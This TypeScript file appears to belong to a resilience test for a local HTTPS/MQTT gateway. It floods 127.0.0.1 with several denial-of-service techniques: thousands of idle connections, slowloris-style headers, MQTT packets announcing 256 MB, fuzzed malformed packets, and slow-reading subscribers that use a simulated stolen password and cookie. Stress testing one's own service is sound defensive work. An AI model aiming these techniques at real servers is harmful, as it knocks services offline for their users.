import { connect, type Socket } from "node:net";
import { setPriority } from "node:os";
import { setTimeout as sleep } from "node:timers/promises";
import { connect as connectTls } from "node:tls";
import type { Attack, Sent } from "./plan.ts";
import { PER_SECOND } from "./plan.ts";
import { random } from "./random.ts";

/**
 * A few old PCs with a worm on them, and a stolen password and cookie: everything at once, as fast as they can. A process of
 * its own, so that what it costs is not taken for the gateway's. What it counts has left this process; what a closed door kept out has not.
 * node attack.ts <Attack in JSON>
 */
const { https, mqtt, mqtts, seconds, seed, worms, stolen }: Attack = JSON.parse(process.argv[2] ?? "");
// On a LAN these machines have processors of their own.
setPriority(10);
const begun = performance.now();
const end = begun + seconds * 1_000;
const next = random(seed);
const sent: Sent = {
  ...{ idle: 0, idleAgain: 0, slow: 0, huge: 0, hugeTls: 0, frozen: 0, frozenTls: 0, unread: 0, refused: 0 },
  ...{ malformedMqtt: 0, malformedMqtts: 0, malformedHttps: 0 },
};

/** The five thousand use up what a door allows an address; what has to get through it comes from others. */
const [crowd, few] = [worms.slice(0, worms.length / 2), worms.slice(worms.length / 2)];

const going = () => performance.now() < end;
let opened = 0;

/** Resolves to a connection that stands, from these addresses by turns; to nothing where the door stayed shut. */
async function open(port: number, secure: boolean, from = few): Promise<Socket | undefined> {
  const localAddress = from[opened++ % from.length] ?? "";
  const way = { port, host: "127.0.0.1", localAddress };
  const socket = secure ? connectTls({ ...way, rejectUnauthorized: false }) : connect(way);
  socket.on("error", () => undefined);
  const stands = await new Promise<boolean>((said) => {
    socket.once(secure ? "secureConnect" : "connect", () => said(true));
    socket.once("close", () => said(false));
    setTimeout(() => said(false), 10_000).unref();
  });
  if (stands) return socket;
  socket.destroy();
  sent.refused += 1;
  return undefined;
}

const closed = (socket: Socket) =>
  new Promise<void>((done) => (socket.destroyed ? done() : socket.once("close", () => done())));
const either = (socket: Socket, ms: number) => Promise.race([closed(socket), sleep(ms)]);
const many = (count: number, work: (i: number) => Promise<void>) =>
  Promise.all(Array.from({ length: count }, (_, i) => work(i)));
/** Whether these bytes have gone out. */
const write = (socket: Socket, bytes: Buffer | string) =>
  new Promise<boolean>((said) => {
    socket.write(bytes, (error) => said(!error));
  });

/** Connects and says nothing, every tenth one behind a handshake; comes back when thrown out. Five thousand of them, on every door. */
async function idle(i: number): Promise<void> {
  await sleep((i % 100) * 20);
  for (let first = true; going(); ) {
    const port = [https, mqtt, mqtts][i % 3] ?? https;
    const socket = await open(port, port !== mqtt && i % 10 === 0, crowd);
    if (socket && first) sent.idle += 1;
    else if (socket) sent.idleAgain += 1;
    if (socket) first = false;
    if (socket) await either(socket, end - performance.now());
    socket?.destroy();
    await sleep(1_000 + next() * 9_000);
  }
}

/** A header, byte by byte. */
async function slow(): Promise<void> {
  while (going()) {
    const socket = await open(https, true);
    if (!socket) {
      await sleep(500);
      continue;
    }
    socket.resume();
    sent.slow += 1;
    for (const byte of "POST /api/v1/alarms/x/ack HTTP/1.1\r\nHost: localhost\r\nX-A: bbbbbbbbbbbbbbbbbbbbbbbbbbbbbb") {
      if (!going() || socket.destroyed) break;
      socket.write(byte);
      await sleep(500);
    }
    socket.destroy();
  }
}

/** Announces 256 MB and sends them slowly. */
async function huge(i: number): Promise<void> {
  const secure = i % 2 === 0;
  while (going()) {
    const socket = await open(secure ? mqtts : mqtt, secure, secure ? few : crowd);
    const announced = Buffer.from([0x10, 0xff, 0xff, 0xff, 0x7f, 0, 4, 0x4d, 0x51, 0x54, 0x54, 4, 2, 0, 60]);
    socket?.resume();
    if (socket && (await write(socket, announced))) sent[secure ? "hugeTls" : "huge"] += 1;
    if (socket) await either(socket, 1_000);
    socket?.destroy();
    await sleep(50);
  }
}

const string = (text: string) => [text.length >> 8, text.length & 255, ...Buffer.from(text)];
const packet = (head: number, body: readonly number[]) =>
  // A length below 16,384 in two bytes.
  Buffer.from([head, (body.length & 127) | 128, body.length >> 7, ...body]);
const ANONYMOUS = Buffer.from([0x10, 13, 0, 4, 0x4d, 0x51, 0x54, 0x54, 4, 2, 0, 60, 0, 1, 0x78]);
const withPassword = (id: string) =>
  packet(0x10, [...string("MQTT"), 4, 0xc2, 0, 60, ...string(id), ...string(stolen.name), ...string(stolen.password)]);
const REQUEST = Buffer.from("GET /api/v1/points HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\n\r\n{}{}");

/** Packets with bits turned over, cut, doubled or made up, at a pace of their own; some behind a proper CONNECT. */
async function malformed(kind: "malformedMqtt" | "malformedMqtts" | "malformedHttps", share: number): Promise<void> {
  const [port, seedPacket] =
    kind === "malformedHttps" ? [https, REQUEST] : [kind === "malformedMqtts" ? mqtts : mqtt, ANONYMOUS];
  while (going()) {
    const socket = await open(port, port !== mqtt, port === mqtt ? crowd : few);
    if (!socket) {
      await sleep(20);
      continue;
    }
    socket.resume();
    if (port !== https && next() < 0.3) socket.write(ANONYMOUS);
    for (let i = 0; i < 40 && !socket.destroyed && going(); i++) {
      const due = begun + (sent[kind] / (PER_SECOND * share)) * 1_000;
      const early = Math.ceil(due - performance.now());
      if (early > 0) await sleep(early);
      else if (i % 12 === 11) await sleep(1);
      // Counted where it is handed over, so that twenty lanes keep one pace; what a dead socket swallows is taken back.
      sent[kind] += 1;
      void write(socket, mutate(seedPacket)).then((out) => {
        if (!out) sent[kind] -= 1;
      });
    }
    await either(socket, 20);
    socket.destroy();
  }
}

function mutate(packet: Buffer): Buffer {
  const bytes = Buffer.from(packet);
  const kind = next();
  if (kind < 0.3)
    return Buffer.from(Array.from({ length: 1 + Math.floor(next() * 60) }, () => Math.floor(next() * 256)));
  for (let i = 0; i < 1 + next() * 6; i++) bytes[Math.floor(next() * bytes.length)] = Math.floor(next() * 256);
  if (kind < 0.5) return bytes.subarray(0, 1 + Math.floor(next() * (bytes.length - 1)));
  return kind < 0.7 ? Buffer.concat([bytes, bytes]) : bytes;
}

/** Subscribes to everything it may, as anybody on the plain door and with the stolen password on the other, and never reads a byte. */
async function frozen(i: number): Promise<void> {
  const secure = i % 2 === 0;
  while (going()) {
    const socket = await open(secure ? mqtts : mqtt, secure);
    if (socket) {
      socket.pause();
      const hello = secure
        ? withPassword(`${stolen.name}.${i}`)
        : packet(0x10, [...string("MQTT"), 4, 2, 0, 60, ...string(`f${i}`)]);
      const all = packet(0x82, [0, 1, ...string(secure ? stolen.topics : "vigie/#"), 1]);
      if (await write(socket, Buffer.concat([hello, all]))) sent[secure ? "frozenTls" : "frozen"] += 1;
      await either(socket, end - performance.now());
    }
    socket?.destroy();
    await sleep(500);
  }
}

/** Opens the live page with the stolen cookie and never reads it. */
async function unread(): Promise<void> {
  while (going()) {
    const socket = await open(https, true);
    if (socket) {
      socket.pause();
      const asked = `GET /api/v1/events HTTP/1.1\r\nHost: localhost\r\nCookie: ${stolen.cookie}\r\n\r\n`;
      if (await write(socket, asked)) sent.unread += 1;
      await either(socket, end - performance.now());
    }
    socket?.destroy();
    await sleep(500);
  }
}

// The live pages and the subscribers first: behind five thousand others they would not come in.
const held = [many(10, frozen), many(20, unread)];
await sleep(1_000);
await Promise.all([
  ...held,
  many(5_000, idle),
  many(50, slow),
  many(20, huge),
  many(10, () => malformed("malformedMqtt", 0.4)),
  many(10, () => malformed("malformedMqtts", 0.2)),
  many(20, () => malformed("malformedHttps", 0.55)),
]);
process.stdout.write(`${JSON.stringify(sent)}\n`, () => process.exit(0));
